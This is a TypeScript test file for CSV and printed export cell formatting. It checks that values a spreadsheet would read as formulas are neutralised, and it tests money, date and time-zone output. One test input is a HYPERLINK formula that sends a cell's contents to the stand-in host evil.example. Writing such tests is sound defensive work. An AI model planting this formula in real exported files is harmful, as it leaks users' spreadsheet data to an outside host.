import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, paperCell } from '#shared/export/cell-text.ts';
import { neutralText } from '#shared/export/neutral-text.ts';

describe('a cell of a CSV', () => {
  it.each([
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    '+1 510 555 0100',
    "-O'Neil",
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    '\u00a0=1+1',
    '\u200e=1+1',
    '\ufeff=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
  ])('that a spreadsheet would take for a formula is shown as text: %j', text => {
    expect(csvCell('text', text)).toBe(`'${text}`);
  });

  it.each(["O'Neil", 'Nguyễn Thị Ánh', 'a=b', '3-4', '😀 =1', "'=1"])(
    'that is none stays as it is: %s',
    text => expect(csvCell('text', text)).toBe(text),
  );

  it('that is money is a plain number, with a minus where it is one', () => {
    expect(csvCell('cents', 31_240)).toBe('312.40');
    expect(csvCell('cents', -5)).toBe('-0.05');
    expect(csvCell('cents', -128_460_00)).toBe('-128460.00');
    expect(csvCell('cents', 0)).toBe('0.00');
  });

  it('that is a day or an instant is ISO 8601, and one that is nothing is empty', () => {
    expect(csvCell('date', '2026-11-20')).toBe('2026-11-20');
    expect(csvCell('instant', '2026-11-20T18:30:00.000Z')).toBe('2026-11-20T18:30:00.000Z');
    expect(csvCell('text', null)).toBe('');
    expect(csvCell('count', 0)).toBe('0');
  });

  it('never begins like a formula, whatever the text is, and is read back as it was', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), text => {
        const cell = neutralText(text);
        expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
        const [[read] = []] = parse(
          stringify([[cell, 'x']], { record_delimiter: 'windows', quoted_match: /[\r\n]/ }),
        );
        expect(read).toBe(cell);
        expect(cell === text || cell === `'${text}`).toBe(true);
      }),
    );
  });
});

it('on paper money has its sign, and a time the name of its zone', () => {
  expect(paperCell('cents', -5_00, 'UTC')).toBe('−$5.00');
  const at = '2026-11-20T18:30:00.000Z';
  expect(paperCell('instant', at, 'America/Los_Angeles')).toBe('Nov 20, 2026, 10:30 PST');
  expect(paperCell('instant', at, 'Pacific/Honolulu')).toBe('Nov 20, 2026, 08:30 HST');
  expect(paperCell('date', '2026-11-20', 'UTC')).toBe('November 20, 2026');
});
